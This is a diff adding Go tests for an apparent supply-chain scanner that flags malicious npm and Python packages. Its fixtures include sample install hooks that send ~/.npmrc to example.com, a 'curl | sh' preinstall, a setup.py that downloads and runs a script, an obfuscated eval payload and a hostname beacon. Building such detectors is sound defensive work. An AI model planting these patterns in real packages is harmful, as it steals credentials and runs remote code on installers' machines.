@@ -0,0 +1,204 @@
+package behavior
+
+import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+var elf = []byte("\x7fELF\x02\x01\x01\x00")
+
+func writeFiles(t *testing.T, root string, files map[string]string) {
+	t.Helper()
+	for name, content := range files {
+		p := filepath.Join(root, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(p), 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+func writeTarball(t *testing.T, p string, files map[string]string) {
+	t.Helper()
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for name, content := range files {
+		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0644, Size: int64(len(content)), Typeflag: tar.TypeReg}); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := tw.Write([]byte(content)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	tw.Close()
+	gz.Close()
+	if err := os.MkdirAll(filepath.Dir(p), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(p, buf.Bytes(), 0644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestScan(t *testing.T) {
+	root := t.TempDir()
+	obfuscated := strings.Repeat("var _0x1a2b3c=_0x4d5e6f[0];", 20) + "eval(_0x1a2b3c);"
+	writeFiles(t, root, map[string]string{
+		"node_modules/stealer/package.json": `{"name":"stealer","version":"1.0.0","scripts":{"postinstall":"node install.js"}}`,
+		"node_modules/stealer/install.js": `const https = require('https');
+const npmrc = fs.readFileSync(os.homedir() + '/.npmrc');
+https.request({host: 'example.com'}).end(npmrc);`,
+		"node_modules/@native/addon/package.json":               `{"name":"@native/addon","version":"2.0.0","scripts":{"install":"node-gyp rebuild"}}`,
+		"node_modules/piper/package.json":                       `{"name":"piper","version":"0.1.0","scripts":{"preinstall":"curl -s https://example.com/x.sh | sh"}}`,
+		"node_modules/packed/package.json":                      `{"name":"packed","version":"3.0.0","main":"lib/index"}`,
+		"node_modules/packed/lib/index.js":                      obfuscated,
+		"node_modules/@esbuild/linux-x64/package.json":          `{"name":"@esbuild/linux-x64","version":"0.20.0","os":["linux"]}`,
+		"node_modules/@esbuild/linux-x64/bin/esbuild":           string(elf),
+		"node_modules/tool/package.json":                        `{"name":"tool","version":"1.0.0"}`,
+		"node_modules/tool/bin/helper":                          string(elf),
+		"lib/python3.12/site-packages/evil.pth":                 "import os;exec(base64.b64decode('aW1wb3J0IG9z'))\n",
+		"lib/python3.12/site-packages/distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'\n",
+		"vendor/github.com/acme/lib/helper":                     string(elf),
+		"README.md":                                             "not a dependency",
+	})
+	writeTarball(t, filepath.Join(root, "dists", "evil-1.0.tar.gz"), map[string]string{
+		"evil-1.0/PKG-INFO": "Name: evil\n",
+		"evil-1.0/setup.py": `import os, urllib.request
+class Install(install):
+    def run(self):
+        urllib.request.urlretrieve('https://example.com/p', '/tmp/p')
+        os.system('sh /tmp/p')
+setup(name='evil', cmdclass={'install': Install})`,
+	})
+	writeTarball(t, filepath.Join(root, "fixtures", "data.tar.gz"), map[string]string{"data/x.csv": "a,b\n"})
+
+	result, err := Scan(context.Background(), root, Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	got := make(map[string]Finding)
+	for _, f := range result.Findings {
+		got[f.File] = f
+	}
+
+	tests := []struct {
+		file    string
+		risk    string
+		rule    string
+		pkg     string
+		version string
+	}{
+		{"node_modules/stealer/package.json", RiskLow, "lifecycle-script", "stealer", "1.0.0"},
+		{"node_modules/stealer/install.js", RiskCritical, "credential-exfiltration", "stealer", "1.0.0"},
+		{"node_modules/@native/addon/package.json", RiskLow, "lifecycle-script", "@native/addon", "2.0.0"},
+		{"node_modules/piper/package.json", RiskHigh, "pipe-to-shell", "piper", "0.1.0"},
+		{"node_modules/packed/lib/index.js", RiskHigh, "obfuscated-payload", "packed", "3.0.0"},
+		{"node_modules/@esbuild/linux-x64/bin/esbuild", RiskLow, "executable", "@esbuild/linux-x64", "0.20.0"},
+		{"node_modules/tool/bin/helper", RiskMedium, "executable", "tool", "1.0.0"},
+		{"lib/python3.12/site-packages/evil.pth", RiskHigh, "obfuscated-payload", "", ""},
+		{"vendor/github.com/acme/lib/helper", RiskHigh, "executable", "", ""},
+		{"dists/evil-1.0.tar.gz!evil-1.0/setup.py", RiskMedium, "download-and-execute", "evil", "1.0"},
+	}
+	for _, tt := range tests {
+		f, ok := got[tt.file]
+		if !ok {
+			t.Errorf("no finding for %s", tt.file)
+			continue
+		}
+		if f.Risk != tt.risk || f.RiskScore != Score(tt.risk) {
+			t.Errorf("%s: risk = %s (%d), want %s", tt.file, f.Risk, f.RiskScore, tt.risk)
+		}
+		if !hasRule(f.Evidence, tt.rule) {
+			t.Errorf("%s: evidence %+v lacks %s", tt.file, f.Evidence, tt.rule)
+		}
+		if f.Package != tt.pkg || f.Version != tt.version {
+			t.Errorf("%s: package = %s@%s, want %s@%s", tt.file, f.Package, f.Version, tt.pkg, tt.version)
+		}
+	}
+
+	for _, file := range []string{"lib/python3.12/site-packages/distutils-precedence.pth", "README.md"} {
+		if _, ok := got[file]; ok {
+			t.Errorf("unexpected finding for %s", file)
+		}
+	}
+	if len(got) != len(tests) {
+		t.Errorf("%d findings, want %d", len(got), len(tests))
+	}
+	if result.Archives != 1 {
+		t.Errorf("Archives = %d, want 1 (non-package archives are skipped)", result.Archives)
+	}
+}
+
+func TestScan_CacheDirs(t *testing.T) {
+	cache := t.TempDir()
+
+	// npm cache content is stored without an extension
+	writeTarball(t, filepath.Join(cache, "content-v2", "sha512", "ab", "cdef"), map[string]string{
+		"package/package.json": `{"name":"beacon","version":"1.2.3","scripts":{"postinstall":"node index.js"}}`,
+		"package/index.js":     `require('https').get('https://example.com/?h=' + os.hostname())`,
+	})
+
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	w, _ := zw.Create("beacon-1.0.dist-info/WHEEL")
+	w.Write([]byte("Wheel-Version: 1.0\n"))
+	w, _ = zw.Create("beacon.pth")
+	w.Write([]byte("import beacon_start\n"))
+	zw.Close()
+	if err := os.WriteFile(filepath.Join(cache, "beacon-1.0-py3-none-any.whl"), buf.Bytes(), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	result, err := Scan(context.Background(), t.TempDir(), Options{CacheDirs: []string{cache}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if result.Archives != 2 {
+		t.Errorf("Archives = %d, want 2", result.Archives)
+	}
+
+	var beacon, pth *Finding
+	for i, f := range result.Findings {
+		switch {
+		case strings.HasSuffix(f.File, "!package/index.js"):
+			beacon = &result.Findings[i]
+		case strings.HasSuffix(f.File, "!beacon.pth"):
+			pth = &result.Findings[i]
+		}
+	}
+	if beacon == nil || beacon.Risk != RiskHigh || !hasRule(beacon.Evidence, "host-beacon") || beacon.Package != "beacon" {
+		t.Errorf("npm cache finding = %+v", beacon)
+	}
+	if pth == nil || pth.Risk != RiskLow || pth.Package != "beacon" || pth.Ecosystem != "pypi" {
+		t.Errorf("wheel .pth finding = %+v", pth)
+	}
+}
+
+func TestScriptFiles(t *testing.T) {
+	tests := []struct {
+		script string
+		want   []string
+	}{
+		{"node install.js", []string{"install.js"}},
+		{"node ./scripts/postinstall && node lib/check.js", []string{"scripts/postinstall.js", "lib/check.js"}},
+		{"node-gyp rebuild", nil},
+		{"python -u setup_hook.py", []string{"setup_hook.py"}},
+	}
+	for _, tt := range tests {
+		got := scriptFiles(tt.script)
+		if strings.Join(got, ",") != strings.Join(tt.want, ",") {
+			t.Errorf("scriptFiles(%q) = %v, want %v", tt.script, got, tt.want)
+		}
+	}
+}